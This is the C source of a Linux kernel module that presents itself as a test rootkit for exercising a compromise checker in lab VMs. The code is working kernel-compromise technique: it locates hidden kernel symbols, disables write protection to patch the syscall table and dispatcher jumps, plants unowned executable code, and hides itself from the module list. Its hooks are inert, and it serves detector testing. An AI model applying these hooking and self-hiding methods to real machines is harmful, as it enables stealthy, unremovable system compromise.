// SPDX-License-Identifier: GPL-2.0
/*
 * mshot_testkit: the test rootkit for mshot's compromise checks. For the
 * throwaway QEMU lab guests only (see README.md beside this file).
 *
 * On load it hooks three system calls. On x86-64, kill (62), getdents (78)
 * and getdents64 (217), twice: in sys_call_table and in the tail jumps of
 * x64_sys_call (the dispatcher since the branch-history-injection fix). On
 * arm64, kill (129), getdents64 (61) and openat (56) in sys_call_table,
 * which invoke_syscall reads. It also registers a keyboard notifier and an
 * IPv4 LOCAL_IN netfilter hook and a probe on the sched_process_exec
 * tracepoint, puts code in an executable page of module space that is none
 * of its own regions (what a rootkit that wiped its struct module leaves),
 * then unlinks itself from the module list (it stays in sysfs and in
 * mod_tree). It cannot be unloaded.
 *
 * kill(31337, 63) returns 0 (no such process exists): proof that the
 * patched dispatch is live. Every other call reaches the original handler.
 */
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/kprobes.h>
#include <linux/keyboard.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/notifier.h>
#include <linux/rculist.h>
#include <linux/smp.h>
#include <linux/stop_machine.h>
#include <linux/string.h>
#include <linux/tracepoint.h>
#include <net/net_namespace.h>
#ifdef CONFIG_X86
#include <asm/processor-flags.h>
#include <asm/sync_core.h>
#define ARG0(regs) ((regs)->di)
#define ARG1(regs) ((regs)->si)
#define DISPATCHER "x64_sys_call"
#elif defined(CONFIG_ARM64)
#include <asm/fixmap.h>
#include <asm/memory.h>
#define ARG0(regs) ((regs)->regs[0])
#define ARG1(regs) ((regs)->regs[1])
/* arm64 dispatches through the table alone. */
#define DISPATCHER NULL
#else
#error "mshot_testkit: x86-64 and arm64 only"
#endif

#define MAGIC_PID 31337
#define MAGIC_SIG 63
/* x64_sys_call is a few KiB; a bigger "function" means a bad lookup. */
#define SCAN_LIMIT 0x10000
#define MAX_SITES 4

typedef long (*syscall_fn)(const struct pt_regs *);
typedef unsigned long (*lookup_name_fn)(const char *);
typedef int (*size_offset_fn)(unsigned long, unsigned long *, unsigned long *);
typedef void *(*module_alloc_fn)(unsigned long);
typedef void *(*execmem_alloc_fn)(int, size_t);
typedef int (*set_memory_fn)(unsigned long, int);

static long mshot_testkit_kill(const struct pt_regs *regs);
static long mshot_testkit_other(const struct pt_regs *regs);
static long mshot_testkit_getdents64(const struct pt_regs *regs);

struct hook {
	unsigned int nr;
	const char *handler;
	syscall_fn hook;
	/* The handler's address: what the hook calls on. */
	syscall_fn orig;
	/* The `jmp rel32` instructions in x64_sys_call that reach the handler. */
	unsigned long sites[MAX_SITES];
	unsigned int nsites;
};

/* HOOK_OTHER: getdents on x86-64, openat on arm64 (which has no getdents). */
enum { HOOK_KILL, HOOK_OTHER, HOOK_GETDENTS64, NHOOKS };

static struct hook hooks[NHOOKS] = {
#ifdef CONFIG_X86
	[HOOK_KILL] = { 62, "__x64_sys_kill", mshot_testkit_kill },
	[HOOK_OTHER] = { 78, "__x64_sys_getdents", mshot_testkit_other },
	[HOOK_GETDENTS64] = { 217, "__x64_sys_getdents64", mshot_testkit_getdents64 },
#else
	[HOOK_KILL] = { 129, "__arm64_sys_kill", mshot_testkit_kill },
	[HOOK_OTHER] = { 56, "__arm64_sys_openat", mshot_testkit_other },
	[HOOK_GETDENTS64] = { 61, "__arm64_sys_getdents64", mshot_testkit_getdents64 },
#endif
};

static unsigned long *syscall_table;
static unsigned long dispatcher;

static long mshot_testkit_kill(const struct pt_regs *regs)
{
	if ((pid_t)ARG0(regs) == MAGIC_PID && (int)ARG1(regs) == MAGIC_SIG) {
		pr_info_ratelimited("mshot_testkit: magic kill answered\n");
		return 0;
	}
	return hooks[HOOK_KILL].orig(regs);
}

static long mshot_testkit_other(const struct pt_regs *regs)
{
	return hooks[HOOK_OTHER].orig(regs);
}

static long mshot_testkit_getdents64(const struct pt_regs *regs)
{
	return hooks[HOOK_GETDENTS64].orig(regs);
}

/* Sees every key event; records nothing. */
static int mshot_testkit_keyboard(struct notifier_block *nb, unsigned long action, void *data)
{
	return NOTIFY_OK;
}

static struct notifier_block keyboard_nb = {
	.notifier_call = mshot_testkit_keyboard,
};

static unsigned int mshot_testkit_netfilter(void *priv, struct sk_buff *skb,
					    const struct nf_hook_state *state)
{
	return NF_ACCEPT;
}

static struct nf_hook_ops netfilter_ops = {
	.hook = mshot_testkit_netfilter,
	.pf = NFPROTO_IPV4,
	.hooknum = NF_INET_LOCAL_IN,
	.priority = NF_IP_PRI_FIRST,
};

/*
 * Runs at every exec (the tracepoint's arguments: the task, its old pid,
 * the binprm); says once that it is live, then does nothing.
 */
static void mshot_testkit_exec(void *data, struct task_struct *p, pid_t old_pid, void *bprm)
{
	pr_info_once("mshot_testkit: exec probe called\n");
}

static struct tracepoint *exec_tp;

static void find_exec_tp(struct tracepoint *tp, void *priv)
{
	if (!strcmp(tp->name, "sched_process_exec"))
		*(struct tracepoint **)priv = tp;
}

/*
 * Code no module owns: a page from module_alloc (execmem_alloc from 6.10,
 * type EXECMEM_DEFAULT), made read-only then executable as the module
 * loader does (never writable and executable at once), holding
 * push rbp; mov rbp,rsp; mov eax,42; pop rbp; ret (arm64: mov w0,#42; ret)
 * and a marker. Nothing calls it.
 */
#ifdef CONFIG_X86
static const u8 orphan_code[] = { 0x55, 0x48, 0x89, 0xe5, 0xb8, 0x2a, 0x00, 0x00, 0x00, 0x5d, 0xc3 };
#else
static const u8 orphan_code[] = { 0x40, 0x05, 0x80, 0x52, 0xc0, 0x03, 0x5f, 0xd6 };
#endif
static void *orphan;

static int plant_orphan(lookup_name_fn lookup)
{
	module_alloc_fn module_alloc = (module_alloc_fn)lookup("module_alloc");
	execmem_alloc_fn execmem_alloc = (execmem_alloc_fn)lookup("execmem_alloc");
	set_memory_fn set_ro = (set_memory_fn)lookup("set_memory_ro");
	set_memory_fn set_x = (set_memory_fn)lookup("set_memory_x");

	if (!set_ro || !set_x || !(module_alloc || execmem_alloc))
		return -ENOENT;
	orphan = module_alloc ? module_alloc(PAGE_SIZE) : execmem_alloc(0, PAGE_SIZE);
	if (!orphan)
		return -ENOMEM;
	memset(orphan, 0xcc, PAGE_SIZE);
	memcpy(orphan, orphan_code, sizeof(orphan_code));
	memcpy(orphan + 0x20, "MSHOT-ORPHAN-CODE", 18);
	if (set_ro((unsigned long)orphan, 1))
		return -EINVAL;
	return set_x((unsigned long)orphan, 1);
}

#ifdef CONFIG_X86
/*
 * Our own accessors: native_write_cr0 puts WP back (CR0 pinning), and the
 * paravirt ones may not be plain moves.
 */
static inline unsigned long cr0_read(void)
{
	unsigned long v;

	asm volatile("mov %%cr0, %0" : "=r"(v));
	return v;
}

static inline void cr0_write(unsigned long v)
{
	asm volatile("mov %0, %%cr0" : : "r"(v) : "memory");
}

static inline unsigned long cr4_read(void)
{
	unsigned long v;

	asm volatile("mov %%cr4, %0" : "=r"(v));
	return v;
}
#endif

/*
 * kallsyms_lookup_name is not exported: a kprobe on it finds it. With IBT
 * the probe sits after the endbr64, so ask the function for its own start.
 */
static lookup_name_fn find_lookup_name(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long probe, start;

	if (register_kprobe(&kp) < 0)
		return NULL;
	probe = (unsigned long)kp.addr;
	unregister_kprobe(&kp);
	start = ((lookup_name_fn)probe)("kallsyms_lookup_name");
	if (start != probe && start + 4 != probe)
		return NULL;
	return (lookup_name_fn)start;
}

/*
 * Every `e9 rel32` inside x64_sys_call whose target is one of our handlers
 * (or just past its endbr64). Bounded by the symbol's size; a byte pattern
 * that decodes to an exact handler address by accident is not a concern.
 */
static int find_sites(size_offset_fn size_offset)
{
	unsigned long size, offset, i, target;
	unsigned int h;
	s32 rel;

	if (!size_offset(dispatcher, &size, &offset) || offset != 0 || size < 16 ||
	    size > SCAN_LIMIT) {
		pr_err("mshot_testkit: x64_sys_call at %px has a bad size\n", (void *)dispatcher);
		return -ERANGE;
	}
	for (i = 0; i + 5 <= size; i++) {
		const u8 *p = (const u8 *)(dispatcher + i);

		if (p[0] != 0xe9)
			continue;
		memcpy(&rel, p + 1, sizeof(rel));
		target = dispatcher + i + 5 + (long)rel;
		for (h = 0; h < NHOOKS; h++) {
			struct hook *k = &hooks[h];
			unsigned long handler = (unsigned long)k->orig;

			if (target != handler && target != handler + 4)
				continue;
			if (k->nsites == MAX_SITES)
				return -E2BIG;
			k->sites[k->nsites++] = dispatcher + i;
		}
	}
	for (h = 0; h < NHOOKS; h++) {
		if (!hooks[h].nsites) {
			pr_err("mshot_testkit: no jmp to %s in x64_sys_call\n", hooks[h].handler);
			return -ENOENT;
		}
	}
	return 0;
}


#ifdef CONFIG_X86
static s32 rel_to(unsigned long site, syscall_fn hook)
{
	return (s32)((long)hook - (long)(site + 5));
}

/*
 * Runs under stop_machine: interrupts are off here and every other CPU
 * spins with interrupts off, so no one executes the bytes being written.
 * Clearing CR0.WP lets ring 0 write read-only pages (kernel text and the
 * const table); init refused earlier if CR4.CET is set, where clearing WP
 * faults.
 */
static int patch(void *unused)
{
	unsigned long cr0 = cr0_read();
	unsigned int h, s;

	cr0_write(cr0 & ~X86_CR0_WP);
	for (h = 0; h < NHOOKS; h++) {
		struct hook *k = &hooks[h];

		WRITE_ONCE(syscall_table[k->nr], (unsigned long)k->hook);
		for (s = 0; s < k->nsites; s++) {
			s32 rel = rel_to(k->sites[s], k->hook);

			memcpy((void *)(k->sites[s] + 1), &rel, sizeof(rel));
		}
	}
	cr0_write(cr0);
	return 0;
}

static void serialize_cpu(void *unused)
{
	sync_core();
}

static int arch_check(lookup_name_fn lookup)
{
	if (cr4_read() & X86_CR4_CET) {
		pr_err("mshot_testkit: CR4.CET is set: clearing CR0.WP would fault; refusing\n");
		return -EOPNOTSUPP;
	}
	return 0;
}
#else
typedef void (*set_fixmap_fn)(enum fixed_addresses, phys_addr_t, pgprot_t);
static set_fixmap_fn fixmap_set;

/*
 * The table is in the kernel image's read-only data, and with rodata=full
 * its linear-map alias is read-only too. Written as the kernel patches its
 * own text: through a writable fixmap slot mapping the same physical page
 * (FIX_TEXT_POKE0, which nothing else uses while every CPU is stopped).
 */
static int patch(void *unused)
{
	unsigned int h;

	for (h = 0; h < NHOOKS; h++) {
		struct hook *k = &hooks[h];
		phys_addr_t phys = __pa_symbol(&syscall_table[k->nr]);
		unsigned long *slot;

		fixmap_set(FIX_TEXT_POKE0, phys & PAGE_MASK, PAGE_KERNEL);
		slot = (unsigned long *)(fix_to_virt(FIX_TEXT_POKE0) + offset_in_page(phys));
		WRITE_ONCE(*slot, (unsigned long)k->hook);
		fixmap_set(FIX_TEXT_POKE0, 0, FIXMAP_PAGE_CLEAR);
	}
	return 0;
}

/* The table is data: no instruction stream to resynchronise. */
static void serialize_cpu(void *unused)
{
}

static int arch_check(lookup_name_fn lookup)
{
	fixmap_set = (set_fixmap_fn)lookup("__set_fixmap");
	if (!fixmap_set) {
		pr_err("mshot_testkit: __set_fixmap not found\n");
		return -ENOENT;
	}
	return 0;
}
#endif

static int __init mshot_testkit_init(void)
{
	lookup_name_fn lookup;
	size_offset_fn size_offset = NULL;
	struct mutex *module_mutex;
	unsigned int h, s, cases = 0;
	int err;

	lookup = find_lookup_name();
	if (!lookup) {
		pr_err("mshot_testkit: kallsyms_lookup_name not found\n");
		return -ENOENT;
	}
	err = arch_check(lookup);
	if (err)
		return err;
	syscall_table = (unsigned long *)lookup("sys_call_table");
	module_mutex = (struct mutex *)lookup("module_mutex");
	dispatcher = DISPATCHER ? lookup(DISPATCHER) : 0;
	if (dispatcher)
		size_offset = (size_offset_fn)lookup("kallsyms_lookup_size_offset");
	if (!syscall_table || !module_mutex || (dispatcher && !size_offset)) {
		pr_err("mshot_testkit: sys_call_table, module_mutex or kallsyms_lookup_size_offset not found\n");
		return -ENOENT;
	}
	for (h = 0; h < NHOOKS; h++) {
		struct hook *k = &hooks[h];
		unsigned long handler = lookup(k->handler);

		if (!handler || syscall_table[k->nr] != handler) {
			pr_err("mshot_testkit: sys_call_table[%u] is not %s: refusing\n", k->nr,
			       k->handler);
			return -EINVAL;
		}
		k->orig = (syscall_fn)handler;
	}
	/* Kernels before the fix dispatch through the table alone. */
	if (dispatcher) {
		err = find_sites(size_offset);
		if (err)
			return err;
	}
	for (h = 0; h < NHOOKS; h++) {
		for (s = 0; s < hooks[h].nsites; s++) {
			long d = (long)hooks[h].hook - (long)(hooks[h].sites[s] + 5);

			if (d != (long)(s32)d)
				return -ERANGE;
		}
	}

	err = plant_orphan(lookup);
	if (err) {
		pr_err("mshot_testkit: no executable page for the orphan code (%d)\n", err);
		return err;
	}
	for_each_kernel_tracepoint(find_exec_tp, &exec_tp);
	if (!exec_tp) {
		pr_err("mshot_testkit: no sched_process_exec tracepoint\n");
		return -ENOENT;
	}

	err = register_keyboard_notifier(&keyboard_nb);
	if (err)
		return err;
	err = nf_register_net_hook(&init_net, &netfilter_ops);
	if (err) {
		unregister_keyboard_notifier(&keyboard_nb);
		return err;
	}
	err = tracepoint_probe_register(exec_tp, (void *)mshot_testkit_exec, NULL);
	if (err) {
		nf_unregister_net_hook(&init_net, &netfilter_ops);
		unregister_keyboard_notifier(&keyboard_nb);
		return err;
	}

	stop_machine(patch, NULL, NULL);
	/* Other CPUs may hold stale decoded copies of the patched jumps. */
	on_each_cpu(serialize_cpu, NULL, 1);

	for (h = 0; h < NHOOKS; h++) {
		struct hook *k = &hooks[h];

		for (s = 0; s < k->nsites; s++)
			pr_info("mshot_testkit: nr %u %s %px -> %px, x64_sys_call+%#lx\n", k->nr,
				k->handler, k->orig, k->hook, k->sites[s] - dispatcher);
		if (!k->nsites)
			pr_info("mshot_testkit: nr %u %s %px -> %px\n", k->nr, k->handler,
				k->orig, k->hook);
		cases += k->nsites;
	}
	pr_info("mshot_testkit: keyboard notifier %px, netfilter ipv4 LOCAL_IN hook %px\n",
		mshot_testkit_keyboard, mshot_testkit_netfilter);
	pr_info("mshot_testkit: tracepoint sched_process_exec %px probe %px\n", exec_tp,
		mshot_testkit_exec);
	pr_info("mshot_testkit: orphan code %px\n", orphan);

	/*
	 * The list_del rootkits do, made safe for RCU readers of the list:
	 * unlink, wait for them, then poison next too. mod_tree keeps the
	 * module, so its addresses still resolve (oopses, kprobes, ftrace).
	 */
	mutex_lock(module_mutex);
	list_del_rcu(&THIS_MODULE->list);
	mutex_unlock(module_mutex);
	synchronize_rcu();
	THIS_MODULE->list.next = LIST_POISON1;

#ifdef CONFIG_X86
	pr_info("mshot_testkit: hooked %u table entries, %u x64_sys_call cases\n", NHOOKS, cases);
#else
	pr_info("mshot_testkit: hooked %u table entries\n", NHOOKS);
#endif
	return 0;
}

module_init(mshot_testkit_init);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("mshot test rootkit for the lab guests (hides, hooks syscalls, probes a tracepoint)");
MODULE_AUTHOR("mshot");
